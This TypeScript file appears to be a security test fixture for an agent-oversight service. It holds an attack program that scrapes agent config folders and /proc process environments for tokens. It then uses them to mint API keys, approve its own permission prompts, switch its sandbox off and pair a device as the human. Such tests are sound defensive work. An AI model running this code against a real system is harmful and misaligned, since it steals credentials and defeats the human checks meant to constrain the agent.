/** Runs as a program in an agent's shell: tries to be the person with everything that an agent can find. */
export const attackProgram = `
import { readdirSync, readFileSync, renameSync, writeFileSync } from "node:fs";
import { connect } from "node:net";
import { join } from "node:path";

const { url, socket, attacks } = JSON.parse(readFileSync("attacks.json", "utf8"));

/** Everything readable that may hold a token: the CLI's home, the environments and command lines of processes. */
function texts() {
  const homes = ["CLAUDE_CONFIG_DIR", "CODEX_HOME", "PI_CODING_AGENT_DIR", "HOME"].flatMap((name) => process.env[name] ?? []);
  const files = homes.flatMap((home) => {
    try {
      return readdirSync(home, { recursive: true, withFileTypes: true }).filter((one) => one.isFile()).map((one) => join(one.parentPath, one.name));
    } catch {
      return [];
    }
  });
  const own = readdirSync("/proc").filter((name) => /^\\d+$/.test(name)).flatMap((pid) => ["environ", "cmdline"].map((name) => join("/proc", pid, name)));
  return [...files, ...own].flatMap((file) => {
    try {
      return [readFileSync(file, "utf8")];
    } catch {
      return [];
    }
  });
}

const found = texts().join("\\n");
const self = /sbx_self_\\d+_[\\w-]{43}/.exec(found)?.[0] ?? "";
const asks = process.env.ELICITATION_REQUEST_URL ?? "";
const asking = asks.split("/").at(-1) ?? "";
const bearer = (token) => ({ authorization: "Bearer " + token });
const credentials = {
  "nothing": {},
  "the service's origin": { origin: url, "sec-fetch-site": "same-origin", "x-requested-with": "fetch" },
  "its own token": bearer(self),
  "its own token as a key": { "x-api-key": self },
  "its own token as a cookie": { cookie: "signalbox_browser=" + self + "; signalbox=" + self },
  "the token of its questions": bearer(asking),
  "the token of its questions as a key": { "x-api-key": asking },
};
const answers = [];
async function attempt(name, path, { method, body, headers }) {
  const init = { method, redirect: "manual", headers: { "content-type": "application/json", accept: "application/json, text/event-stream", ...headers } };
  if (body !== undefined) init.body = JSON.stringify(body);
  const answer = await fetch(url + path, init).catch((error) => ({ status: 0, headers: new Headers(), text: async () => String(error) }));
  const text = await answer.text();
  answers.push({ name, status: answer.status, cookies: answer.headers.get("set-cookie"), isEmptyPage: text.startsWith("<!doctype html>") && !text.includes("<form"), text: text.slice(0, 300) });
}
const questions = asks.slice(asks.indexOf("/", 8));
const form = { type: "object", properties: { go: { type: "boolean" } } };
const asked = await fetch(asks, {
  method: "POST",
  headers: { "content-type": "application/json" },
  body: JSON.stringify({ mode: "form", message: "May it go on?", requestedSchema: form, _meta: { "com.pulsemcp/request-id": "mine" } }),
});
for (const { name, method, path, body } of attacks)
  for (const [by, headers] of Object.entries(credentials))
    for (const door of path.startsWith("/oauth") || path.startsWith("/sign-in") ? [""] : ["/ui/v1", "/api/v1"])
      await attempt(name + ", with " + by + ", at " + (door || "the pages"), door + path, { method, body, headers });
for (const end of ["", "/respond"])
  for (const method of ["PATCH", "PUT", "POST", "DELETE"])
    await attempt("answer a question through the address it asks at", questions + "/mine" + end, { method, body: { action_type: "accept", content: { go: true } }, headers: {} });
for (const [tool, input] of [["respond_to_elicitation", { request_id: "mine", action_type: "accept", content: { go: true } }], ["action_external_app", { action: "mint_key", name: "mine" }], ["action_session", { session_id: 1, action: "change_sandbox", sandbox: "off" }]])
  for (const path of ["/mcp", "/mcp/self"])
    await attempt("tool " + tool + " at " + path, path, { method: "POST", headers: bearer(self), body: { jsonrpc: "2.0", id: 1, method: "tools/call", params: { name: tool, arguments: input } } });
const reached = await new Promise((resolve) => connect(socket).on("connect", () => resolve("connected")).on("error", (error) => resolve(error.code)));
writeFileSync("answers.part", JSON.stringify({ answers, reached, asked: asked.status, hasSelf: self !== "" }));
renameSync("answers.part", "answers.json");
`;

/** What a person alone may do, as requests that would succeed for a person. */
export const attacks = [
  { name: "mint an API key", method: "POST", path: "/api_keys", body: { name: "mine" } },
  {
    name: "answer its own question",
    method: "PATCH",
    path: "/elicitations/mine/respond",
    body: { action_type: "accept", content: { go: true } },
  },
  { name: "open the local network", method: "PUT", path: "/lan", body: { open: true } },
  { name: "pair a device", method: "POST", path: "/device_pairings", body: { privilege: "act_as_human" } },
  {
    name: "trust its repository",
    method: "POST",
    path: "/repositories/trust",
    body: { git_root: "https://example.org/hostile.git" },
  },
  {
    name: "loosen a repository's sandbox",
    method: "PUT",
    path: "/repositories/sandbox",
    body: { git_root: "/", sandbox: "off", sandbox_read: [], sandbox_write: [], sandbox_grants: null },
  },
  { name: "loosen its sandbox", method: "PATCH", path: "/sessions/1/sandbox", body: { sandbox: "off" } },
  {
    name: "allow apps of its servers",
    method: "PATCH",
    path: "/app_settings",
    body: { mcp_apps: { enabled: true, allowed_servers: ["mine"] } },
  },
  { name: "see who is signed in", method: "GET", path: "/browser_sign_ins" },
  { name: "sign in with a guessed code", method: "POST", path: "/sign-in", body: { code: "x".repeat(43) } },
  {
    name: "get a page for its own consent",
    method: "GET",
    path: "/oauth/authorize?client_id=x&response_type=code",
  },
] as const;
